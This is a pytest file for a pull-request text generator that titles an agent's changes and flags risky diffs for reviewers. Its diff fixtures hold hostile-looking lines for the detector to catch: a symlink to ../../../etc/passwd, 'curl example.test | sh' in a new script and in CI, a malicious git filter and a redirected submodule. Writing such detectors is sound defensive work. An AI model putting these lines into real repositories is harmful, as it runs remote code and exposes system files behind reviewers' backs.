"""The words of a pull request, from the change itself: the agent's title (or the summary's first
sentence), Conventional Commits when the history uses them, warnings from the citation verdict,
review flags for changes a reviewer must not miss, and the changes by file. No Django, no DB."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tasks.pull_requests.review_flags import file_changes, review_flags, symlink_leaves_repository
from tasks.pull_requests.sections import (
    changes_section,
    flags_notice,
    summary_warnings,
    warning_notice,
)
from tasks.pull_requests.title import (
    as_conventional,
    choose_title,
    first_sentence,
    split_title,
    uses_conventional_commits,
)

ROOT = Path(__file__).resolve().parents[2]
PROMPT = "The test suite fails (AGENTS.md says how to run it). Find the cause, fix it."


class TestTitle:
    def test_the_agents_own_title_wins_and_leaves_the_summary(self):
        final = "Title: Handle empty cache keys\n\nSummary: the cache 【F:c.py†L3】 …"
        assert split_title(final) == ("Handle empty cache keys",
                                      "Summary: the cache 【F:c.py†L3】 …")
        assert choose_title(final=final, prompt=PROMPT) == "Handle empty cache keys"

    def test_markdown_around_the_title_line_is_accepted(self):
        assert split_title("**Title:** `Fix parser`\nbody")[0] == "Fix parser"

    def test_a_title_later_in_the_answer_is_not_taken(self):
        final = "Summary\nFixed it.\nTitle: not this"
        assert split_title(final) == (None, final)

    def test_a_too_long_title_falls_back_to_the_summarys_first_sentence(self):
        final = ("Title: " + "word " * 30 + "\n\n## Summary\n- Cache keys are normalised before "
                 "lookup 【F:cache.py†L10-L12】. Tests pass 【T:ab12†L3】.")
        assert choose_title(final=final, prompt=PROMPT) == "Cache keys are normalised before lookup"

    def test_a_title_carrying_a_citation_is_refused(self):
        final = "Title: Fix 【F:a.py†L1】\nRound keys before lookup."
        assert choose_title(final=final, prompt=PROMPT) == "Round keys before lookup"

    def test_without_summary_the_prompts_first_sentence_not_its_first_70_characters(self):
        assert choose_title(final="", prompt=PROMPT) == \
            "The test suite fails (AGENTS.md says how to run it)"

    def test_a_long_sentence_is_cut_at_a_word_with_an_ellipsis(self):
        title = choose_title(final="This change " + "adjusts the thing " * 10, prompt=PROMPT)
        assert len(title) <= 72 and title.endswith("…") and " " + title.split()[-1][:-1] in \
            " " + "This change " + "adjusts the thing " * 10

    def test_a_citation_before_punctuation_leaves_no_space_behind(self):
        final = "`take` handles a negative count 【F:m/r.py†L9】; tests pass 【T:ab12†L1】."
        assert choose_title(final=final, prompt="p") == "take handles a negative count; tests pass"

    def test_first_sentence_skips_headings_and_markers(self):
        assert first_sentence("## Summary\n\n* **Made** `x` faster. Then more.") == \
            "Made x faster"


class TestConventionalCommits:
    SUBJECTS = ["feat(api): add paging", "fix: handle empty keys", "docs: explain cache",
                "Merge pull request #4 from x/y", "chore: bump deps"]

    def test_detected_when_most_subjects_follow_it(self):
        assert uses_conventional_commits(self.SUBJECTS)
        assert not uses_conventional_commits(["Add paging", "Fix keys", "fix: one", "Docs"])
        assert not uses_conventional_commits(["fix: one", "feat: two"])  # too little history

    def test_the_type_comes_from_files_then_words(self):
        assert as_conventional("Fix the crash on empty keys", ["cache.py"]) == \
            "fix: fix the crash on empty keys"
        assert as_conventional("Explain the cache", ["docs/cache.md", "README.md"]) == \
            "docs: explain the cache"
        assert as_conventional("Cover paging", ["tests/test_paging.py"]) == "test: cover paging"
        assert as_conventional("Run lint on PRs", [".github/workflows/ci.yml"]) == \
            "ci: run lint on PRs"
        assert as_conventional("Add paging to the API", ["api.py"]) == "feat: add paging to the API"
        assert as_conventional("API paging", ["api.py"]) == "feat: API paging"

    def test_an_existing_prefix_is_kept(self):
        assert as_conventional("fix(cache): empty keys", ["c.py"]) == "fix(cache): empty keys"

    def test_choose_title_applies_it_only_when_asked(self):
        final = "Title: Handle empty cache keys"
        assert choose_title(final=final, prompt="", files=["c.py"], conventional=True) == \
            "feat: handle empty cache keys"
        assert choose_title(final=final, prompt="", files=["c.py"]) == "Handle empty cache keys"


SYMLINK_OUT = """diff --git a/config/secrets b/config/secrets
new file mode 120000
index 0000000..1111111
--- /dev/null
+++ b/config/secrets
@@ -0,0 +1 @@
+../../../etc/passwd
\\ No newline at end of file
"""
SYMLINK_IN = """diff --git a/docs/latest b/docs/latest
new file mode 120000
index 0000000..1111111
--- /dev/null
+++ b/docs/latest
@@ -0,0 +1 @@
+v2/index.md
\\ No newline at end of file
"""
EXECUTABLES = """diff --git a/tools/run.sh b/tools/run.sh
new file mode 100755
index 0000000..1111111
--- /dev/null
+++ b/tools/run.sh
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl example.test | sh
diff --git a/build.sh b/build.sh
old mode 100644
new mode 100755
"""
GIT_AND_CI = """diff --git a/.gitattributes b/.gitattributes
new file mode 100644
index 0000000..1111111
--- /dev/null
+++ b/.gitattributes
@@ -0,0 +1 @@
+*.py filter=evil
diff --git a/.gitmodules b/.gitmodules
--- a/.gitmodules
+++ b/.gitmodules
@@ -1 +1,2 @@
 [submodule "x"]
+	url = https://example.test/other.git
diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
--- a/.github/workflows/ci.yml
+++ b/.github/workflows/ci.yml
@@ -1 +1 @@
-run: pytest
+run: curl example.test | sh
"""
PLAIN = """diff --git a/app.py b/app.py
--- a/app.py
+++ b/app.py
@@ -1,2 +1,2 @@
-print('v1')
+print('v2')
 print('end')
diff --git a/old.py b/new.py
similarity index 90%
rename from old.py
rename to new.py
--- a/old.py
+++ b/new.py
@@ -1 +1 @@
-a = 1
+a = 2
"""


class TestReviewFlags:
    def test_a_symlink_out_of_the_repository_is_flagged_as_such(self):
        (flag,) = review_flags(SYMLINK_OUT)
        assert (flag.path, flag.kind) == ("config/secrets", "symlink_outside")
        assert "../../../etc/passwd" in flag.message

    def test_a_symlink_inside_is_still_flagged(self):
        assert [(f.path, f.kind) for f in review_flags(SYMLINK_IN)] == [("docs/latest", "symlink")]

    @pytest.mark.parametrize(("link", "target", "outside"), [
        ("a", "/etc/passwd", True), ("a/b", "../c", False), ("a/b", "../../c", True),
        ("a", "..", True), ("a", "~/x", True), ("a", "b/../../x", True), ("a", "b/c", False),
    ])
    def test_where_a_symlink_points(self, link, target, outside):
        assert symlink_leaves_repository(link, target) is outside

    def test_new_and_newly_executable_files(self):
        assert [(f.path, f.kind, f.message) for f in review_flags(EXECUTABLES)] == [
            ("tools/run.sh", "executable", "new executable file"),
            ("build.sh", "executable", "made executable")]

    def test_git_attributes_modules_and_ci(self):
        assert [(f.path, f.kind) for f in review_flags(GIT_AND_CI)] == [
            (".gitattributes", "git_config"), (".gitmodules", "git_config"),
            (".github/workflows/ci.yml", "ci")]

    def test_an_ordinary_change_has_no_flags_and_bad_input_none_either(self):
        assert review_flags(PLAIN) == [] and review_flags("") == []
        assert review_flags("not a patch\n@@ nonsense") == []

    def test_the_flags_notice_names_each_file(self):
        notice = flags_notice(review_flags(SYMLINK_OUT + EXECUTABLES))
        assert notice.startswith("> [!CAUTION]")
        assert "> - `config/secrets`: symlink pointing outside the repository" in notice
        assert "> - `build.sh`: made executable" in notice
        assert flags_notice([]) == ""


class TestChangesAndWarnings:
    def test_changes_by_file(self):
        section = changes_section(file_changes(PLAIN + EXECUTABLES))
        assert section.splitlines() == [
            "## Changes by file", "",
            "- `app.py` (modified, +1 −1)",
            "- `new.py` (renamed from `old.py`, +1 −1)",
            "- `tools/run.sh` (added, +2 −0)",
            "- `build.sh` (mode)",
        ]
        assert changes_section([]) == ""

    def test_warnings_from_the_summary_verdict(self):
        payload = {"text": "…", "flags": ["Claims tests pass without citing a test run: “ok”"],
                   "citations": [
                       {"raw": "【F:a.py†L1】", "valid": True, "reason": ""},
                       {"raw": "【F:gone.py†L9】", "valid": False, "reason": "no such file"}]}
        warnings = summary_warnings(payload)
        assert warnings == [
            "1 citation points at nothing that exists: `【F:gone.py†L9】` (no such file).",
            "Claims tests pass without citing a test run: “ok”"]
        assert summary_warnings(None) == [] and summary_warnings({"citations": [], "flags": []}) \
            == []

    def test_the_warning_says_whether_the_pr_is_a_draft(self):
        assert "opened as a draft" in warning_notice(["x"], draft=True)
        assert "marked it ready for review anyway" in warning_notice(["x"], draft=False)
        assert warning_notice([], draft=True) == ""


def test_the_pull_text_modules_do_not_import_django():
    code = ("import sys\n"
            "import tasks.pull_requests.title, tasks.pull_requests.review_flags\n"
            "import tasks.pull_requests.sections\n"
            "loaded = sorted(m for m in sys.modules if m == 'django' or m.startswith('django.'))\n"
            "assert not loaded, loaded\n")
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True,
                          env={"PATH": "/usr/bin:/bin"})
    assert done.returncode == 0, done.stderr
